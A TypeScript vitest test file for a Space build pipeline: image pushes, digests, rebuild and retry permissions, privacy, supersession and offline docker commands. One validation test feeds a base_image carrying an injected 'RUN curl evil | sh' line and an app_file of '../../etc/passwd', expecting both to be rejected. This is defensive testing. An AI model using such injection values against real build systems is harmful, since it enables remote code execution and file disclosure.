import { describe, expect, it } from "vitest";

import { GET as offlineRoute } from "@/app/api/spaces/[owner]/[name]/offline/route";
import { findJobByTokenHash } from "@/db/queries/job-runs";
import { findJobRecord } from "@/db/queries/jobs";
import { findRepoRecordById } from "@/db/queries/repos";
import { findSpaceRun } from "@/db/queries/space-runs";
import { findImageByTag, findSpaceBuild } from "@/db/queries/spaces";
import { commitChanges } from "@/lib/hub";
import { cancelJob, retryJob } from "@/lib/jobs/job-control";
import { runOwedJobHooks } from "@/lib/jobs/job-hooks";
import { finishJob } from "@/lib/jobs/job-runs";
import type { JobStep } from "@/lib/jobs/protocol";
import { hashSecret } from "@/lib/jobs/secrets";
import { buildImage, pushImage } from "@/lib/registry/test-support";
import { refOf } from "@/lib/repos/access";
import { sessionCaller } from "@/test/factories";
import { hf, makeAccount, makeHubRepo } from "@/test/hf";
import { author } from "@/test/hub";
import { claimFor, makeRunner } from "@/test/jobs/fixtures";

import { rebuildSpace, syncSpaceBuild } from "./builds";

const base = "localhost:3000/base_image/openmind:py3.11";

async function gradioSpace() {
  const owner = await makeAccount();
  const { record } = await makeHubRepo(owner, { type: "space" });
  return { owner, record };
}

async function commit(record: { id: number }, files: Record<string, string>) {
  const repo = (await findRepoRecordById(record.id))!;
  await commitChanges({
    repo: refOf(repo),
    branch: "main",
    author,
    message: "change",
    operations: Object.entries(files).map(([path, content]) => ({
      kind: "file" as const,
      path,
      source: { content },
    })),
  });
  // The change listener synced already; a second call (the reconcile pass) must change nothing.
  await syncSpaceBuild((await findRepoRecordById(record.id))!);
  return (await findRepoRecordById(record.id))!;
}

const card = (extra = "") =>
  `---\nsdk: gradio\napp_file: app.py\nbase_image: ${base}\n${extra}---\n# Demo\n`;

describe("Space builds", () => {
  // First in the file, so that its job is the oldest in the queue and the one the runner claims.
  it("record the pushed image, its digest and size when the build succeeds", async () => {
    const { record } = await gradioSpace();
    const built = await commit(record, { "README.md": card("hardware: npu-basic\n") });
    expect(
      await (await hf("GET", `/api/spaces/${built.ownerName}/${built.name}/runtime`)).json(),
    ).toMatchObject({
      stage: "BUILDING",
      build: { state: "queued", commit: built.headCommit, image: null },
    });
    const queued = (await findSpaceBuild(record.id))!;
    const runner = await makeRunner({ labels: { executor: "shell", builder: "buildah" } });
    const payload = (await claimFor(runner))!;
    expect(payload.id).toBe(queued.buildJobId);

    // What the runner's build step does: push the image with the job's token.
    const tag = built.headCommit!.slice(0, 12);
    const image = buildImage([Buffer.from("app layer")]);
    const repository = `spaces/${built.ownerName}/${built.name}`;
    const pushed = await pushImage(
      repository,
      `Basic ${Buffer.from(`job:${payload.token}`).toString("base64")}`,
      image,
      tag,
    );
    expect(pushed.status).toBe(201);
    await finishJob((await findJobByTokenHash(hashSecret(payload.token)))!, {
      attempt: payload.attempt,
      outcome: "succeeded",
      exitCode: 0,
    });
    // The finish call runs hooks in the background; a pass of our own covers a missed one.
    await runOwedJobHooks();
    await expect.poll(async () => (await findSpaceBuild(record.id))?.buildState).toBe("succeeded");

    expect(await findSpaceBuild(record.id)).toMatchObject({
      buildState: "succeeded",
      builtCommit: built.headCommit,
      image: `localhost:3000/${repository}:${tag}`,
      imageDigest: expect.stringMatching(/^sha256:[0-9a-f]{64}$/),
      imageSize: image.layers[0]!.length + image.config.length,
    });
    // `:latest` is the newest built commit's image.
    expect((await findImageByTag(repository, "latest"))?.digest).toBe(
      (await findSpaceBuild(record.id))?.imageDigest,
    );

    // Then its app starts: a run of the built commit is queued (no runner takes it here).
    await expect.poll(async () => (await findSpaceRun(record.id))?.nextRunJobId).toBeTruthy();
    const runtime = await hf("GET", `/api/spaces/${built.ownerName}/${built.name}/runtime`);
    expect(await runtime.json()).toMatchObject({
      stage: "APP_STARTING",
      run: { state: "starting", message: null },
      hardware: { current: "npu-basic", requested: "npu-basic" },
      build: {
        state: "succeeded",
        commit: built.headCommit,
        image: `localhost:3000/${repository}:${tag}`,
      },
    });
    const offline = await offlineRoute(
      new Request(`http://localhost:3000/api/spaces/${built.ownerName}/${built.name}/offline`),
      { params: Promise.resolve({ owner: built.ownerName, name: built.name }) },
    );
    expect(offline.status).toBe(200);
    const commands = (await offline.json()) as Record<string, unknown>;
    expect(commands).toMatchObject({
      image: `localhost:3000/${repository}:${tag}`,
      login: null,
      pull: `docker pull localhost:3000/${repository}:${tag}`,
      commit: built.headCommit,
    });
    expect(commands.run).toMatch(
      new RegExp(
        `^docker run -it --rm -p 7860:7860 --device /dev/davinci0 .*--device /dev/davinci_manager .* localhost:3000/${repository}:${tag}$`,
      ),
    );
  });

  it("refuse a base_image or app_file that is not a plain reference or path", async () => {
    const { record } = await gradioSpace();
    await commit(record, {
      "README.md": `---\nsdk: gradio\nbase_image: "alpine\\nRUN curl evil | sh"\n---\n`,
    });
    expect(await findSpaceBuild(record.id)).toMatchObject({
      buildState: "config_error",
      buildMessage: "`base_image` is not an image reference.",
    });
    await commit(record, { "README.md": card("app_file: ../../etc/passwd x\n") });
    expect(await findSpaceBuild(record.id)).toMatchObject({ buildState: "config_error" });
  });

  it("start again on Rebuild, for the Space's writers only, as a new job that supersedes the old", async () => {
    const { owner, record } = await gradioSpace();
    const built = await commit(record, { "README.md": card() });
    const first = (await findSpaceBuild(record.id))!;
    const { jobId } = await rebuildSpace(sessionCaller(owner), refOf(built));
    expect(jobId).not.toBe(first.buildJobId);
    expect(await findSpaceBuild(record.id)).toMatchObject({
      buildState: "queued",
      buildJobId: jobId,
      buildCommit: built.headCommit,
    });
    expect((await findJobRecord(first.buildJobId!))?.state).toBe("cancelled");
    const stranger = await makeAccount();
    await expect(rebuildSpace(sessionCaller(stranger), refOf(built))).rejects.toMatchObject({
      code: "forbidden",
    });
  });

  it("follow a Retry of the current build from its job page, which needs a builder again", async () => {
    const { owner, record } = await gradioSpace();
    await commit(record, { "README.md": card() });
    const first = (await findSpaceBuild(record.id))!;
    await cancelJob(sessionCaller(owner), first.buildJobId!);
    const { id } = await retryJob(sessionCaller(owner), first.buildJobId!);
    expect((await findJobRecord(id))?.requiredLabels).toEqual({ builder: "*" });
    expect(await findSpaceBuild(record.id)).toMatchObject({ buildState: "queued", buildJobId: id });
  });

  it("are as private as their Space: runtime and offline commands are 404 to others", async () => {
    const owner = await makeAccount();
    const { record } = await makeHubRepo(owner, { type: "space", isPrivate: true });
    const path = `/api/spaces/${record.ownerName}/${record.name}/runtime`;
    expect((await hf("GET", path)).status).toBe(404);
    expect((await hf("GET", path, { token: (await makeAccount()).write })).status).toBe(404);
    expect((await hf("GET", path, { token: owner.read })).status).toBe(200);
    const offline = await offlineRoute(
      new Request(`http://localhost:3000/api/spaces/${record.ownerName}/${record.name}/offline`),
      { params: Promise.resolve({ owner: record.ownerName, name: record.name }) },
    );
    expect(offline.status).toBe(404);
  });

  it("wait for a base environment, then build each new head commit, superseding the older build", async () => {
    const { record } = await gradioSpace();
    // Created without a base environment: there is nothing to build on yet.
    expect(await findSpaceBuild(record.id)).toMatchObject({
      buildState: "config_error",
      buildMessage: expect.stringContaining("base environment"),
    });

    const first = await commit(record, { "README.md": card(), "requirements.txt": "# none\n" });
    const queued = (await findSpaceBuild(record.id))!;
    expect(queued).toMatchObject({ buildState: "queued", buildCommit: first.headCommit });
    const job = (await findJobRecord(queued.buildJobId!))!;
    expect(job).toMatchObject({
      kind: "space-build",
      resourceType: "repo",
      resourceId: String(record.id),
      grants: {
        clone: [`spaces/${first.ownerName}/${first.name}`],
        push: [`spaces/${first.ownerName}/${first.name}`],
      },
      requiredLabels: { builder: "*" },
    });
    const [fetch, build] = (job.spec as { steps: JobStep[] }).steps;
    expect(fetch?.type === "script" && fetch.script).toContain(
      `fetch -q --depth 1 'http://localhost:3000/spaces/${first.ownerName}/${first.name}.git' ${first.headCommit}`,
    );
    // No requirements to install: no RUN at all, so a base image without pip builds.
    expect(fetch?.type === "script" && fetch.script).not.toContain("RUN ");
    expect(fetch?.type === "script" && fetch.script).toContain(`FROM ${base}`);
    expect(fetch?.type === "script" && fetch.script).not.toContain("STRATA_JOB_TOKEN}@");
    expect(build).toMatchObject({
      type: "build",
      tag: `localhost:3000/spaces/${first.ownerName}/${first.name}:${first.headCommit!.slice(0, 12)}`,
      push: true,
    });

    const second = await commit(record, {
      "app.py": "print('v2')\n",
      "requirements.txt": "gradio\n",
    });
    const next = (await findSpaceBuild(record.id))!;
    expect(next.buildCommit).toBe(second.headCommit);
    expect(next.buildJobId).not.toBe(job.id);
    expect((await findJobRecord(job.id))!).toMatchObject({
      state: "cancelled",
      failureReason: `Superseded by ${second.headCommit!.slice(0, 7)}.`,
    });
    const nextJob = (await findJobRecord(next.buildJobId!))!;
    expect(JSON.stringify(nextJob.spec)).toContain(
      "RUN python -m pip install --no-cache-dir -r /tmp/requirements.txt",
    );
  });
});
